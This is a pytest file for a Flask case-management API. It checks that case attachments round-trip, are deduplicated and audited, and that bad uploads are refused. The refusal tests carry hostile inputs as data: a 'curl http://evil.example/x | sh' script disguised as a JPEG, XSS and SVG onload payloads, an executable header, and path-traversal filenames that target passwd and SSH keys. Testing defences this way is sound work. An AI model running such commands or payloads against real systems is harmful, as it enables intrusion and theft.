"""Case attachments through the API: real photos and recordings round-trip, the same bytes
are stored once, and bad attachments (a script renamed .jpg, oversize, path-traversal names,
someone else's case) are refused."""

from __future__ import annotations

import hashlib
import io
import re
import struct
import threading
import zlib
from pathlib import Path
from urllib.parse import quote

import pytest
from flask_babel import force_locale, gettext
from sqlalchemy import text

from tests.support.cases import committed_clients, report

HEX64 = re.compile(r"[0-9a-f]{64}")


def png_2x2() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    rows = b"\x00\xff\x00\x00\x00\x00\xff" * 2  # filter byte + two RGB pixels, twice
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def jpeg_1x1() -> bytes:
    """A baseline JPEG of one grey pixel: one 8x8 block whose DC difference and AC run are
    both the single one-bit Huffman code 0."""
    def segment(marker: int, body: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body

    one_code = bytes([1] + [0] * 15) + b"\x00"  # one code of length 1, for symbol 0
    return (b"\xff\xd8"
            + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
            + segment(0xDB, b"\x00" + bytes([1] * 64))
            + segment(0xC0, b"\x08\x00\x01\x00\x01\x01\x01\x11\x00")
            + segment(0xC4, b"\x00" + one_code) + segment(0xC4, b"\x10" + one_code)
            + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
            + b"\x3f"  # bits 0 (DC: no change), 0 (AC: end of block), padded with ones
            + b"\xff\xd9")


def mp3() -> bytes:
    """An ID3v2.3 tag (no frames) and three silent MPEG-1 layer III frames (128 kbit/s)."""
    frame = b"\xff\xfb\x90\x64" + bytes(413)
    return b"ID3\x03\x00\x00\x00\x00\x00\x00" + frame * 3


def amr() -> bytes:
    """AMR-NB: the magic line and five 12.2 kbit/s frames (header byte + 31 bytes)."""
    return b"#!AMR\n" + (b"\x3c" + bytes(31)) * 5


SAMPLES = [
    ("现场照片.jpg", jpeg_1x1(), "image/jpeg"),
    ("screenshot.png", png_2x2(), "image/png"),
    ("调解录音.mp3", mp3(), "audio/mpeg"),
    ("voice.amr", amr(), "audio/amr"),
]


@pytest.fixture
def zh(app):
    """zh(msgid, **values): what the zh_CN catalog makes of a message, so these tests follow
    the catalog rather than restate it."""
    def translate(msgid: str, **values: object) -> str:
        with app.test_request_context(), force_locale("zh_CN"):
            return gettext(msgid, **values)

    assert translate("No such case.") == "没有该案件。"  # the catalog is really consulted
    return translate


@pytest.fixture
def files_dir(app, tmp_path):
    saved = app.config["FILES_DIR"]
    app.config["FILES_DIR"] = str(tmp_path / "files")
    yield tmp_path / "files"
    app.config["FILES_DIR"] = saved


@pytest.fixture
def config_value(app):
    """config_value("KEY", value): set for this test, restored after."""
    saved = {}

    def set_value(key, value):
        saved.setdefault(key, app.config[key])
        app.config[key] = value

    yield set_value
    app.config.update(saved)


@pytest.fixture
def grid(api_client_for):
    return api_client_for("baonan.grid")


@pytest.fixture
def case_id(grid, demo_county):
    """A case reported by the 保南村 grid worker in one of their cells."""
    cell = next(c for c in demo_county.cells if c.village_code == "150521100201")
    point = cell.boundary.representative_point()
    response = grid.post("/api/v1/cases", json={
        "category_code": "0201", "title": "院墙界址纠纷", "source": "grid_worker",
        "lon": point.x, "lat": point.y})
    assert response.status_code == 201, response.json
    return response.json["id"]


def upload(client, case_id, data, name, content_type=None):
    return client.post(f"/api/v1/cases/{case_id}/attachments",
                       data={"file": (io.BytesIO(data), name, content_type)},
                       content_type="multipart/form-data")


def blobs(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def count_rows(db_session, case_id) -> int:
    return db_session.execute(text("SELECT count(*) FROM attachments WHERE case_id = :c"),
                              {"c": case_id}).scalar()


@pytest.mark.parametrize("name,data,media_type", SAMPLES, ids=[s[2] for s in SAMPLES])
def test_photos_and_recordings_round_trip(grid, case_id, files_dir, db_session,
                                          name, data, media_type):
    # The client's claimed type is wrong on purpose: only the content counts.
    created = upload(grid, case_id, data, name, "application/octet-stream")
    assert created.status_code == 201, created.json
    body = created.json
    digest = hashlib.sha256(data).hexdigest()
    assert (body["media_type"], body["size"], body["sha256"], body["name"]) == (
        media_type, len(data), digest, name)
    assert body["content_url"] == f"/api/v1/cases/{case_id}/attachments/{body['id']}/content"

    assert grid.get(f"/api/v1/cases/{case_id}/attachments/{body['id']}").json == body
    assert [a["id"] for a in grid.get(f"/api/v1/cases/{case_id}/attachments").json] == [
        body["id"]]

    content = grid.get(body["content_url"])
    assert content.status_code == 200
    assert content.data == data
    assert content.mimetype == media_type
    assert content.headers["X-Content-Type-Options"] == "nosniff"
    assert content.headers["Cache-Control"] == "private, no-store"
    disposition = content.headers["Content-Disposition"]
    assert disposition.startswith("inline; filename=")
    assert disposition.endswith("filename*=UTF-8''" + quote(name, safe="!#$&+-.^_`|~"))
    assert (files_dir / digest[:2] / digest[2:4] / digest).read_bytes() == data


def test_recordings_can_be_played_from_any_point(grid, case_id, files_dir):
    """Browsers seek in audio with Range requests."""
    body = upload(grid, case_id, mp3(), "录音.mp3").json
    part = grid.get(body["content_url"], headers={"Range": "bytes=10-19"})
    assert part.status_code == 206
    assert part.data == mp3()[10:20]
    assert part.headers["Content-Range"] == f"bytes 10-19/{len(mp3())}"


def test_chinese_names_are_sent_rfc5987_encoded(grid, case_id, files_dir):
    body = upload(grid, case_id, jpeg_1x1(), "院墙 照片.jpg").json
    disposition = grid.get(body["content_url"]).headers["Content-Disposition"]
    assert disposition == ("inline; filename=\"attachment.jpg\"; "
                           "filename*=UTF-8''%E9%99%A2%E5%A2%99%20%E7%85%A7%E7%89%87.jpg")


def test_the_upload_is_audited(grid, case_id, files_dir, db_session):
    body = upload(grid, case_id, png_2x2(), "a.png").json
    entry = db_session.execute(text(
        "SELECT actor_name, summary FROM audit_log WHERE action = 'attachments.create' "
        "AND object_id = :i"), {"i": str(body["id"])}).one()
    assert entry.actor_name == "baonan.grid"
    assert entry.summary["values"]["sha256"] == body["sha256"]


def test_the_same_file_on_two_cases_is_stored_once(grid, case_id, files_dir, db_session,
                                                   cell_point):
    other = report(grid, cell_point, title="另一案件")["id"]
    first = upload(grid, case_id, jpeg_1x1(), "a.jpg")
    second = upload(grid, other, jpeg_1x1(), "b.jpg")
    assert (first.status_code, second.status_code) == (201, 201)
    assert first.json["id"] != second.json["id"]
    assert first.json["sha256"] == second.json["sha256"]
    assert count_rows(db_session, case_id) == count_rows(db_session, other) == 1
    assert [p.name for p in blobs(files_dir)] == [first.json["sha256"]]
    assert grid.get(second.json["content_url"]).data == jpeg_1x1()


# --- idempotent uploads: a phone retrying after a lost response --------------------------------

def test_the_same_file_twice_on_one_case_is_one_attachment(grid, case_id, files_dir,
                                                            db_session):
    first = upload(grid, case_id, jpeg_1x1(), "a.jpg")
    again = upload(grid, case_id, jpeg_1x1(), "retry.jpg")
    assert (first.status_code, again.status_code) == (201, 200)
    assert again.json == first.json  # the first attachment as it was (its name too)
    assert count_rows(db_session, case_id) == 1
    assert [a["id"] for a in grid.get(f"/api/v1/cases/{case_id}/attachments").json] == [
        first.json["id"]]
    assert db_session.execute(text(
        "SELECT count(*) FROM audit_log WHERE action = 'attachments.create' "
        "AND object_id = :i"), {"i": str(first.json["id"])}).scalar() == 1


def test_different_files_are_different_attachments(grid, case_id, files_dir, db_session):
    first = upload(grid, case_id, jpeg_1x1(), "a.jpg")
    second = upload(grid, case_id, png_2x2(), "a.jpg")  # same name, other bytes
    assert (first.status_code, second.status_code) == (201, 201)
    assert first.json["id"] != second.json["id"]
    assert count_rows(db_session, case_id) == 2


def test_someone_else_sending_the_same_file_gets_the_existing_one(grid, case_id, files_dir,
                                                                   api_client_for,
                                                                   db_session):
    first = upload(grid, case_id, mp3(), "录音.mp3").json
    again = upload(api_client_for("baonan.staff"), case_id, mp3(), "录音.mp3")
    assert again.status_code == 200 and again.json["id"] == first["id"]
    assert again.json["uploaded_by"] == first["uploaded_by"]
    assert count_rows(db_session, case_id) == 1


@pytest.fixture
def committed(app):
    """Clients whose requests commit for real: uploads racing each other need separate
    database connections (the attachments go with their case)."""
    with committed_clients(app, "attachments-test") as made:
        yield made


def test_concurrent_uploads_of_the_same_file_make_one_attachment(app, committed, files_dir,
                                                                 cell_point):
    from govgrid.extensions import db

    login, made = committed
    case = report(login("baonan.grid"), cell_point, title="并发上传")
    made.append(case["id"])
    clients = [login("baonan.grid") for _ in range(4)]
    barrier = threading.Barrier(len(clients), timeout=30)
    results: list[tuple[int, int | None]] = []

    def send(client):
        barrier.wait()
        response = upload(client, case["id"], jpeg_1x1(), "现场照片.jpg")
        results.append((response.status_code, (response.json or {}).get("id")))

    threads = [threading.Thread(target=send, args=(c,)) for c in clients]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(status for status, _ in results) == [200, 200, 200, 201], results
    assert len({attachment_id for _, attachment_id in results}) == 1, results
    with app.app_context(), db.engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM attachments WHERE case_id = :c"),
                            {"c": case["id"]}).scalar() == 1


def test_openapi_documents_the_idempotent_200(client):
    spec = client.get("/api/openapi.json").json
    responses = spec["paths"]["/api/v1/cases/{case_id}/attachments"]["post"]["responses"]
    assert {"200", "201"} <= set(responses)
    assert "already" in responses["200"]["description"]


@pytest.mark.parametrize("data,name,claimed", [
    (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "evil.jpg", "image/jpeg"),
    (b"<html><script>alert(document.cookie)</script></html>", "photo.png", "image/png"),
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "map.svg", "image/svg+xml"),
    (b"MZ\x90\x00" + bytes(100), "voice.mp3", "audio/mpeg"),
    (b"", "empty.jpg", "image/jpeg"),
])
def test_what_is_not_a_photo_or_recording_is_refused(grid, case_id, files_dir, db_session, zh,
                                                     data, name, claimed):
    response = upload(grid, case_id, data, name, claimed)
    assert response.status_code == 415
    assert response.json["message"] == zh(
        "This file type is not accepted. Upload a photo (JPEG, PNG, WebP, HEIC) or a "
        "recording (MP3, M4A, AMR, WAV, Ogg, WebM).")
    assert blobs(files_dir) == [] and count_rows(db_session, case_id) == 0


def test_oversize_files_are_refused_and_nothing_is_kept(grid, case_id, files_dir, db_session,
                                                        config_value, zh):
    config_value("MAX_ATTACHMENT_BYTES", 1000)
    photo = jpeg_1x1()
    big = photo[:-2] + bytes(2000) + photo[-2:]
    response = upload(grid, case_id, big, "big.jpg")
    assert response.status_code == 413
    assert response.json["message"] == zh("The file is larger than the limit of %(limit)s.",
                                          limit="1000 B")
    assert blobs(files_dir) == [] and count_rows(db_session, case_id) == 0
    assert upload(grid, case_id, photo, "small.jpg").status_code == 201  # under the limit


def test_a_request_over_max_content_length_is_a_json_413(grid, case_id, files_dir, db_session,
                                                         config_value):
    config_value("MAX_CONTENT_LENGTH", 10_000)
    response = upload(grid, case_id, b"\xff\xd8\xff" + bytes(20_000), "huge.jpg")
    assert response.status_code == 413
    assert response.is_json
    assert response.json == {"code": 413, "message": "上传的文件过大。"}
    assert blobs(files_dir) == [] and count_rows(db_session, case_id) == 0


def test_a_chunked_request_over_max_content_length_is_a_json_413(grid, case_id, files_dir,
                                                                 config_value):
    """Without Content-Length the limit is only found while reading: still a 413."""
    config_value("MAX_CONTENT_LENGTH", 10_000)
    boundary = "govgrid-test-boundary"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
            f"filename=\"huge.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n").encode()
    body += b"\xff\xd8\xff" + bytes(20_000) + f"\r\n--{boundary}--\r\n".encode()
    response = grid.post(
        f"/api/v1/cases/{case_id}/attachments", input_stream=io.BytesIO(body),
        content_type=f"multipart/form-data; boundary={boundary}",
        headers={"Transfer-Encoding": "chunked"},
        environ_overrides={"wsgi.input_terminated": True})
    assert response.status_code == 413
    assert response.json == {"code": 413, "message": "上传的文件过大。"}
    assert blobs(files_dir) == []


@pytest.mark.parametrize("name,shown", [
    ("../../etc/passwd.jpg", "passwd.jpg"),
    ("..\\..\\boot.ini", "boot.ini"),
    ("/tmp/../../root/.ssh/authorized_keys", "authorized_keys"),
    ("..", "attachment"),
    ("a\x1bb\x7f\u202ec.jpg", "abc.jpg"),  # escape, delete, right-to-left override
])
def test_path_traversal_names_are_only_display_names(grid, case_id, files_dir, tmp_path,
                                                     db_session, name, shown):
    response = upload(grid, case_id, jpeg_1x1(), name)
    assert response.status_code == 201, response.json
    assert response.json["name"] == shown
    stored = db_session.execute(text(
        "SELECT original_name FROM attachments WHERE id = :i"), {"i": response.json["id"]}
    ).scalar()
    assert stored == shown
    # The one file written is the blob, named by its digest, under FILES_DIR.
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert len(written) == 1
    assert written[0].resolve().is_relative_to(files_dir.resolve())
    assert HEX64.fullmatch(written[0].name)


def test_other_jurisdictions_cannot_read_or_add(grid, case_id, files_dir, api_client_for):
    body = upload(grid, case_id, png_2x2(), "a.png").json
    base = f"/api/v1/cases/{case_id}/attachments"
    township = api_client_for("baokang.dispatcher")  # the parent township: reads below
    assert township.get(body["content_url"]).data == png_2x2()
    sideways = api_client_for("menda.dispatcher")  # another township
    for url in (base, f"{base}/{body['id']}", body["content_url"]):
        response = sideways.get(url)
        assert response.status_code == 404, url
        assert "sha256" not in response.get_data(as_text=True)
    assert upload(sideways, case_id, png_2x2(), "b.png").status_code == 404


def test_an_attachment_is_only_found_under_its_own_case(grid, case_id, files_dir,
                                                        api_client_for, demo_county):
    body = upload(grid, case_id, png_2x2(), "a.png").json
    township = api_client_for("baokang.dispatcher")
    cell = next(c for c in demo_county.cells if c.village_code == "150521100201")
    point = cell.boundary.representative_point()
    other = township.post("/api/v1/cases", json={
        "category_code": "0201", "title": "另一案件", "source": "walk_in",
        "lon": point.x, "lat": point.y}).json["id"]
    assert township.get(f"/api/v1/cases/{other}/attachments/{body['id']}").status_code == 404
    assert township.get(
        f"/api/v1/cases/{other}/attachments/{body['id']}/content").status_code == 404


@pytest.mark.parametrize("state", ["archived", "rejected", "merged"])
def test_closed_cases_take_no_attachments(grid, case_id, files_dir, db_session, zh, state):
    db_session.execute(text("UPDATE cases SET state = :s WHERE id = :c"),
                       {"s": state, "c": case_id})
    response = upload(grid, case_id, jpeg_1x1(), "late.jpg")
    assert response.status_code == 422
    assert response.json["message"] == zh(
        "Files cannot be added to a case that is archived, rejected or merged.")
    assert blobs(files_dir) == []


def test_the_file_field_is_required(grid, case_id, files_dir):
    response = grid.post(f"/api/v1/cases/{case_id}/attachments", data={},
                         content_type="multipart/form-data")
    assert response.status_code == 422
    assert "file" in response.json["errors"]["files"]


def test_blobs_live_outside_the_web_root(app, files_dir):
    from govgrid.config import from_environment

    static = Path(app.static_folder).resolve()
    default = Path(str(from_environment(app.instance_path)["FILES_DIR"])).resolve()
    package = Path(app.root_path).resolve()
    for root in (default, files_dir.resolve()):
        assert not root.is_relative_to(static) and not root.is_relative_to(package), root


def test_blobs_are_not_reachable_as_static_files(grid, case_id, files_dir, app):
    body = upload(grid, case_id, jpeg_1x1(), "a.jpg").json
    digest = body["sha256"]
    for url in (f"/static/{digest}", f"/static/../files/{digest[:2]}/{digest[2:4]}/{digest}",
                f"/static/%2e%2e/%2e%2e/instance/files/{digest[:2]}/{digest[2:4]}/{digest}"):
        assert grid.get(url).status_code == 404, url


def test_openapi_documents_the_multipart_upload(client):
    spec = client.get("/api/openapi.json").json
    post = spec["paths"]["/api/v1/cases/{case_id}/attachments"]["post"]
    schema = post["requestBody"]["content"]["multipart/form-data"]["schema"]
    if "$ref" in schema:
        schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    assert schema["required"] == ["file"]
    assert schema["properties"]["file"].items() >= {"type": "string", "format": "binary"}.items()
    assert {"201", "413", "415"} <= set(post["responses"])
    content = spec["paths"][
        "/api/v1/cases/{case_id}/attachments/{attachment_id}/content"]["get"]
    assert content["responses"]["200"]["content"]
